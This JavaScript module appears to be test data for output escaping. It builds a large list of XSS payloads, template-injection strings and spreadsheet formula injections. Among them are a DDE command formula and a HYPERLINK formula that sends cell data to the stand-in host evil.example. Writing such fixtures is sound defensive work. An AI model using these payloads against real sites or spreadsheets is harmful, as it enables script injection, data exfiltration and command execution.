const ALERT = 'alert(1)';
const EVIL_ORIGIN = 'https://evil.example';

/** Prefixes that break out of the surrounding context: an attribute, a text element, a comment, a script. */
const breakouts = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '-->',
  '</noscript>',
  '"/>',
];

const elements = [
  `<script>${ALERT}</script>`,
  `<ScRiPt>${ALERT}</sCrIpT>`,
  `<script src=${EVIL_ORIGIN}/a.js></script>`,
  `<img src=x onerror=${ALERT}>`,
  `<img/src=x/onerror=${ALERT}>`,
  `<svg onload=${ALERT}>`,
  `<svg><script>${ALERT}</script></svg>`,
  `<svg><animate onbegin=${ALERT} attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror=${ALERT}></mtext></math>`,
  `<details open ontoggle=${ALERT}>`,
  `<input autofocus onfocus=${ALERT}>`,
  `<select autofocus onfocus=${ALERT}>`,
  `<video><source onerror=${ALERT}></video>`,
  `<iframe srcdoc="<script>parent.${ALERT}</script>"></iframe>`,
  `<iframe src="javascript:parent.${ALERT}"></iframe>`,
  `<object data="javascript:${ALERT}"></object>`,
  `<link rel=stylesheet href=x onerror=${ALERT}>`,
  `<style onload=${ALERT}></style>`,
];

const attributes = [
  `" onmouseover=${ALERT} x="`,
  `' autofocus onfocus=${ALERT} x='`,
  `" style="animation-name:x" onanimationstart="${ALERT}`,
  `x onerror=${ALERT}`,
];

const addresses = [
  `javascript:${ALERT}`,
  `JaVaScRiPt:${ALERT}`,
  `java\tscript:${ALERT}`,
  ` javascript:${ALERT}`,
  `javascript&colon;${ALERT}`,
  `javascript://example.com/%0a${ALERT}`,
  `data:text/html,<script>${ALERT}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:${ALERT}`,
  '//evil.example/',
  '/\\evil.example/',
];

const templates = [
  `{{constructor.constructor('${ALERT}')()}}`,
  `\u0024{${ALERT}}`,
  `#{${ALERT}}`,
  `<%= ${ALERT} %>`,
  `[[${ALERT}]]`,
  `{{7*7}}`,
  `';${ALERT};//`,
  `";${ALERT};//`,
  `\\";${ALERT};//`,
  `\u2028${ALERT}//`,
  `<!--<script>${ALERT}`,
  `\u003cimg src=x onerror=${ALERT}\u003e`,
  `&lt;img src=x onerror=${ALERT}&gt;`,
  `%3Cscript%3E${ALERT}%3C/script%3E`,
  `<base href=${EVIL_ORIGIN}/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${ALERT}">`,
  `<form action="javascript:${ALERT}"><button autofocus>`,
];

/** Texts that a spreadsheet would evaluate. */
export const formulas = [
  "=cmd|' /C calc'!A0",
  `=HYPERLINK("${EVIL_ORIGIN}?"&A1,"open")`,
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\n=1+1',
  '=1+1","=1+1',
];

/** Everything that must be shown as plain text. */
export const payloads = [
  ...breakouts.flatMap((exit) => elements.map((element) => exit + element)),
  ...attributes,
  ...addresses,
  ...templates,
  ...formulas,
];
